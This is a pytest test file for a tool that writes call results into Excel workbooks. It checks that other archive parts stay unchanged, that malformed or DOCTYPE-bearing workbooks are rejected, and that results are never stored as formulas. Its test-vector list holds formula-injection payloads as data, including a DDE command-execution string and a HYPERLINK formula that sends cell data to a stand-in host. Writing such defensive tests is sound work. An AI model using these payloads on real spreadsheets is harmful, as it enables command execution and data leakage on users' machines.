"""An Excel workbook comes back with its results in one sheet, and with every other byte as it was."""

from __future__ import annotations

import io
import re
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from dialer.result_table import ResultTable
from dialer.sheet_xml import UnsafeSheet
from dialer.workbook import add_to_workbook
from tests.spreadsheets.make import MAIN, text_cell, xlsx, xlsx_parts, zipped
from tests.spreadsheets.written import PART, Results, add, by_calamine, sheet_xml, worksheet

SHEETS = Path(__file__).parent / "spreadsheets"


def added(name: str, results: Results, *, header_row: int | None = 1, **options: str) -> bytes:
    return add((SHEETS / name).read_bytes(), results, header_row=header_row, **options)[0]  # type: ignore[arg-type]


def by_openpyxl(content: bytes) -> list[list[object]]:
    return [
        [cell.value for cell in row] for row in openpyxl.load_workbook(io.BytesIO(content))["Leads"]["A1:F9"]
    ]


def test_an_honest_workbook_gets_its_results_and_loses_nothing() -> None:
    content = added("honest.xlsx", {2: ("c1", "queued"), 4: ("c2", None)})
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    sheet = workbook["Leads"]
    assert [[cell.value for cell in row] for row in sheet["A1:D4"]] == [
        ["Name", "Phone", "call_id", "status"],
        ["Ann Example", "+12015550123", "c1", "queued"],
        ["Bo Sample", "+442079460001", None, None],
        ["=UPPER(A2)", "2015550124", "c2", None],
    ]
    assert (sheet["A2"].comment.text, sheet["A3"].hyperlink.target) == (
        "met at the fair",
        "https://example.com/bo",
    )
    assert (sheet["C1"].font.b, sheet["C2"].font.b) == (True, False)
    assert (sheet.freeze_panes, sheet.auto_filter.ref, str(sheet.merged_cells)) == (
        "A2",
        "A1:D4",
        "A6:B6",
    )
    assert (sheet.column_dimensions["B"].width, sheet.column_dimensions["C"].width) == (20, 18)
    assert workbook["Secret"].sheet_state == "hidden"


def packed_parts(content: bytes) -> dict[str, bytes]:
    archive = zipfile.ZipFile(io.BytesIO(content))
    parts = {}
    for entry in archive.infolist():
        start = (
            entry.header_offset
            + 30
            + len(entry.filename)
            + int.from_bytes(content[entry.header_offset + 28 : entry.header_offset + 30], "little")
        )
        parts[entry.filename] = content[start : start + entry.compress_size]
    return parts


@pytest.mark.parametrize("name", ["honest.xlsx", "macros_inside.xlsm"])
def test_every_other_part_keeps_its_very_bytes_as_they_were_packed(name: str) -> None:
    before = packed_parts((SHEETS / name).read_bytes())
    after = packed_parts(added(name, {5: ("c1", "queued")}, header_row=4))
    assert list(before) == list(after)
    assert {part for part in before if before[part] != after[part]} == {PART, "xl/styles.xml"}


@pytest.mark.parametrize("name", ["honest.xlsx", "macros_inside.xlsm"])
def test_the_styles_get_cell_formats_behind_the_last_one_and_change_in_nothing_else(name: str) -> None:
    content = added(name, {5: ("c1", "queued")}, header_row=4)
    before, after = (
        zipfile.ZipFile(source).read("xl/styles.xml").decode().partition("</cellXfs>")
        for source in (SHEETS / name, io.BytesIO(content))
    )
    count = re.compile(r'<cellXfs count="(\d+)"')
    old, new = (int(count.search(each[0])[1]) for each in (before, after))  # type: ignore[index]
    recounted = count.sub(f'<cellXfs count="{new}"', before[0])
    assert after[0].startswith(recounted)
    assert re.fullmatch(r"(?:<xf [^<>]*/>|<xf [^<>]*><alignment[^<>]*/></xf>)*", after[0][len(recounted) :])
    assert (after[0].count("<xf ") - before[0].count("<xf "), after[2]) == (new - old, before[2])


def test_the_archive_is_sound_and_tells_the_same_dates_and_rights() -> None:
    before = zipfile.ZipFile(SHEETS / "honest.xlsx")
    after = zipfile.ZipFile(io.BytesIO(added("honest.xlsx", {2: ("c1", "queued")})))
    assert after.testzip() is None
    assert [(e.date_time, e.external_attr, e.compress_type) for e in before.infolist()] == [
        (e.date_time, e.external_attr, e.compress_type) for e in after.infolist()
    ]


def test_an_archive_whose_sizes_stand_behind_the_data_is_copied_right() -> None:
    class Unseekable(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def tell(self) -> int:
            raise OSError

    stream = Unseekable()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in xlsx_parts(
            f'<sheetData><row r="1">{text_cell("A1", "Phone")}</row></sheetData>'
        ).items():
            archive.writestr(name, part)
    content = add(stream.getvalue(), {})[0]
    assert zipfile.ZipFile(io.BytesIO(content)).testzip() is None
    assert by_calamine(content) == [["Phone", "call_id", "status"]]


def test_results_stand_behind_the_used_range_wherever_it_begins() -> None:
    assert by_calamine(added("begins_at_c4.xlsx", {5: ("c1", "queued")}, header_row=4))[3:5] == [
        ["", "", "Name", "Phone", "call_id", "status"],
        ["", "", "Ann Example", "+12015550123", "c1", "queued"],
    ]


def test_a_namespace_prefix_is_kept() -> None:
    content = added("prefixed_xml.xlsx", {2: ("c1", True)})
    assert by_openpyxl(content)[:2] == [
        ["Phone", "call_id", "status", None, None, None],
        [12015550123, "c1", True, None, None, None],
    ]


def test_rows_and_cells_without_numbers_are_counted() -> None:
    content = added("rows_without_numbers.xlsx", {2: ("b", None), 4: ("d", None), 5: ("e", "f")})
    assert by_calamine(content) == [
        ["Phone", "call_id", "status"],
        ["", "b", ""],
        ["", "", ""],
        ["", "d", ""],
        [12015550123, "e", "f"],
    ]


def test_cells_that_only_have_a_style_do_not_push_the_results_away() -> None:
    content = added("styled_to_the_last_column.xlsx", {2: ("c1", "queued")})
    sheet = openpyxl.load_workbook(io.BytesIO(content))["Leads"]
    assert [(cell.value, cell.font.b) for cell in sheet[2][:4]] == [
        ("Ann", False),
        ("+12015550123", False),
        ("c1", True),  # the place had a style, and keeps it
        ("queued", False),
    ]
    assert sheet["XFD2"].font.b


VECTORS = [
    *("=1+1", "@SUM(1)", "-2+3", "+12015550123", "\t=1", "\r=1", "\n=1", "=cmd|'/c calc'!A0", "\uff1d1+1"),
    *('=HYPERLINK("http://x/?"&A1)', "<script>&amp;]]>", "_x0041_", " spaces ", "a\r\nb", "ÄЖ漢\U0001f600"),
]


@pytest.mark.parametrize("text", VECTORS)
def test_a_result_is_never_a_formula_and_reads_back_as_it_was(text: str) -> None:
    content = added("begins_at_c4.xlsx", {5: (text, None)}, header_row=4)
    assert "<f" not in sheet_xml(content)
    assert by_calamine(content)[4][4] == text


@pytest.mark.parametrize("text", VECTORS)
def test_openpyxl_agrees_that_a_result_is_a_text(text: str) -> None:
    cell = openpyxl.load_workbook(io.BytesIO(added("honest.xlsx", {2: (text, None)})))["Leads"]["C2"]
    assert (cell.data_type, cell.value) == ("s", text.replace("_x0041_", "_x005F_x0041_"))


def test_a_header_is_never_a_formula() -> None:
    assert by_calamine(add(worksheet(), {}, names=["=1+1"])[0]) == [["", 1.0, "=1+1"]]


def without(name: str) -> bytes:
    parts = xlsx_parts("<sheetData/>")
    del parts[name]
    return zipped(parts)


def claims_to_be_longer(name: str) -> bytes:
    """A workbook whose directory says that a part is longer than the file."""
    content = xlsx("<sheetData/>")
    entry = content.rindex(name.encode()) - 46  # where the part's record in the directory begins
    return content[: entry + 20] + b"\xff\xff\xff\x00" + content[entry + 24 :]


def with_a_part_twice(name: str) -> bytes:
    """A workbook in which two parts have one name; zipfile would not write it."""
    other = name[:-1] + "_"
    return zipped(xlsx_parts("<sheetData/>") | {other: "<x/>"}).replace(other.encode(), name.encode())


BROKEN: dict[str, Callable[[], bytes]] = {
    "no archive": lambda: b"Name,Phone\n",
    "no relationships": lambda: without("_rels/.rels"),
    "no workbook": lambda: without("xl/workbook.xml"),
    "no sheet": lambda: without(PART),
    "another sheet": lambda: zipped(xlsx_parts("<sheetData/>", name="Other")),
    "a sheet in UTF-16": lambda: xlsx(f'<worksheet xmlns="{MAIN}"><sheetData/></worksheet>'.encode("utf-16")),
    "an encoding nobody knows": lambda: xlsx(
        f'<?xml version="1.0" encoding="UTF-98"?><worksheet xmlns="{MAIN}"><sheetData/></worksheet>'
    ),
    "a chart": lambda: xlsx(f'<chartsheet xmlns="{MAIN}"/>'),
    "no sheetData": lambda: xlsx(f'<worksheet xmlns="{MAIN}"/>'),
    "a DOCTYPE": lambda: xlsx(f'<!DOCTYPE a><worksheet xmlns="{MAIN}"><sheetData/></worksheet>'),
    "a DOCTYPE in the workbook": lambda: zipped(
        xlsx_parts("<sheetData/>") | {"xl/workbook.xml": "<!DOCTYPE a><a/>"}
    ),
    "a workbook in an encoding nobody knows": lambda: zipped(
        xlsx_parts("<sheetData/>") | {"xl/workbook.xml": '<?xml version="1.0" encoding="ATF-8"?><a/>'}
    ),
    "another part cut off": lambda: claims_to_be_longer("[Content_Types].xml"),
    "a part twice": lambda: with_a_part_twice(PART),
    "no room": lambda: xlsx('<sheetData><row r="1"><c r="XFD1"><v>1</v></c></row></sheetData>'),
}


@pytest.mark.parametrize("content", BROKEN.values(), ids=BROKEN)
def test_a_workbook_that_is_not_as_it_should_be_is_not_rewritten(content: Callable[[], bytes]) -> None:
    with pytest.raises(UnsafeSheet):
        add(content(), {})


@pytest.mark.parametrize("row", [0, 1])
def test_results_out_of_place_are_a_fault(row: int) -> None:
    with pytest.raises(ValueError, match=f"results for row {row}"):
        add(worksheet(), {row: ("c1", "queued")})


def test_memory_does_not_grow_with_the_sheet() -> None:
    rows = "".join(f'<row r="{n}"><c r="A{n}" s="1"><v>{n}</v></c></row>' for n in range(1, 15_001))
    source, out = io.BytesIO(xlsx(f"<sheetData>{rows}</sheetData>")), io.BytesIO(bytes(4_000_000))
    table = ResultTable(("n",), ((n, ("queued",)) for n in range(2, 15_001)))
    tracemalloc.start()
    add_to_workbook(source, out, sheet="Leads", header_row=1, results=table)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 6_000_000
